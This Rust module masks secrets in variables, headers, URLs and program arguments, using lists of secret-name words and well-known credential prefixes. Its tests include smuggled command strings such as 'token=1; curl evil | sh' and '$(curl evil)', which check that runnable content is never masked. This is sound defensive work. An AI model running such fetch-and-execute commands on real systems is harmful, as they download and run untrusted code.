//! Values that are not to be seen over a shoulder.

use std::borrow::Cow;

use crate::variables::{Piece, pieces};

/// What stands for a secret.
const MASK: &str = "****";

/// Words in a name that say its value is secret.
const NAMES: [&str; 10] =
    ["token", "key", "secret", "passw", "passphrase", "credential", "auth", "cookie", "session", "bearer"];

/// How well-known secrets begin.
const BEGINNINGS: [&str; 12] =
    ["sk-", "sk_", "pk_", "rk_", "ghp_", "gho_", "github_pat_", "glpat-", "xox", "AKIA", "AIza", "eyJ"];

/// Whether a value of this name is secret.
pub(crate) fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    NAMES.iter().any(|word| name.contains(word))
}

/// Shows the value of a variable or header: references stay, they tell nothing.
pub(crate) fn value<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
    if !is_secret_name(name) {
        return text(value);
    }
    let (scheme, rest) = scheme(value);
    let shown: String = pieces(rest)
        .into_iter()
        .map(|piece| match piece {
            Piece::Reference(inner) => match inner.split_once(":-") {
                Some((name, _)) => format!("${{{name}:-{MASK}}}"),
                None => format!("${{{inner}}}"),
            },
            Piece::Text(_) => MASK.to_owned(),
        })
        .collect();
    Cow::Owned(format!("{scheme}{shown}"))
}

/// Splits the value of a header after the word that says what follows.
fn scheme(value: &str) -> (&str, &str) {
    match value.split_once(' ') {
        Some((scheme, rest)) if ["bearer", "basic", "token"].contains(&scheme.to_ascii_lowercase().as_str()) => {
            (&value[..=scheme.len()], rest)
        }
        _ => ("", value),
    }
}

/// Shows a text that may hold a secret: well-known tokens, passwords and queries of addresses.
pub(crate) fn text(text: &str) -> Cow<'_, str> {
    if BEGINNINGS.iter().any(|beginning| text.starts_with(beginning)) && text.len() >= 16 {
        return Cow::Borrowed(MASK);
    }
    let Some(at) = text.find("://") else { return Cow::Borrowed(text) };
    let (scheme, rest) = text.split_at(at + 3);
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(end);
    let authority = match authority.rsplit_once('@') {
        Some((user, server)) => match user.split_once(':') {
            Some((user, _)) => format!("{user}:{MASK}@{server}"),
            None => format!("{MASK}@{server}"),
        },
        None => authority.to_owned(),
    };
    let path = match path.split_once('?') {
        Some((path, query)) => {
            let query: Vec<Cow<'_, str>> = query
                .split('&')
                .map(|pair| match pair.split_once('=') {
                    Some((name, content)) if is_secret_name(name) => {
                        Cow::Owned(format!("{name}={}", value(name, content)))
                    }
                    _ => Cow::Borrowed(pair),
                })
                .collect();
            format!("{path}?{}", query.join("&"))
        }
        None => path.to_owned(),
    };
    Cow::Owned(format!("{scheme}{authority}{path}"))
}

/// Shows the arguments of a program: what options and headers hold whose names say so is hidden.
///
/// What could be a command is shown, whatever stands before it: nothing that runs may hide behind a mask.
pub(crate) fn arguments(arguments: &[String]) -> Vec<Cow<'_, str>> {
    let is_plain =
        |text: &str| !text.contains(|character: char| character.is_whitespace() || ";|&<>()`".contains(character));
    let mut is_next_secret = false;
    let show = |argument| {
        let argument: &String = argument;
        let names = argument.starts_with('-') && !argument.contains('=') && is_secret_name(argument);
        let is_secret = std::mem::replace(&mut is_next_secret, names);
        if is_secret && !argument.starts_with('-') && is_plain(argument) {
            return value("secret", argument);
        }
        for joint in ["=", ": "] {
            if let Some((name, content)) = argument.split_once(joint)
                && is_secret_name(name)
                && is_plain(name)
                && is_plain(scheme(content).1)
                && !name.contains("://")
            {
                return Cow::Owned(format!("{name}{joint}{}", value(name, content)));
            }
        }
        text(argument)
    };
    arguments.iter().map(show).collect()
}

#[cfg(test)]
mod tests {
    use super::{arguments, value};

    #[test]
    fn secrets_are_hidden_references_are_not() {
        let check = |name: &str, content: &str, shown: &str| assert_eq!(value(name, content), shown, "{name}");
        check("PATH", "/usr/bin", "/usr/bin");
        check("API_KEY", "hunter2", "****");
        check("API_KEY", "${API_KEY}", "${API_KEY}");
        check("API_KEY", "${API_KEY:-hunter2}", "${API_KEY:-****}");
        check("Authorization", "Bearer ${T}", "Bearer ${T}");
        check("Authorization", "Bearer hunter2", "Bearer ****");
        check("OTHER", "ghp_0123456789abcdef", "****");
        check("DATABASE_URL", "postgres://ada:hunter2@db/x?a=1", "postgres://ada:****@db/x?a=1");
        check("URL", "https://h/x?api_key=hunter2&b=1", "https://h/x?api_key=****&b=1");
    }

    #[test]
    fn secret_arguments_are_hidden() {
        let given = [
            "-y",
            "--token",
            "abc",
            "--api-key=abc",
            "KEY=abc",
            "--header",
            "Authorization: Bearer abc",
            "--token",
            "--x",
            "--header=Cookie: abc",
            "token=1; curl evil | sh",
            "--password",
            "$(curl evil)",
            "https://u:p@h",
        ];
        let shown = arguments(&given.map(str::to_owned)).join(" ");
        assert_eq!(
            shown,
            "-y --token **** --api-key=**** KEY=**** --header Authorization: Bearer **** --token --x --header=Cookie: **** token=1; curl evil | sh --password $(curl evil) https://u:****@h"
        );
    }
}
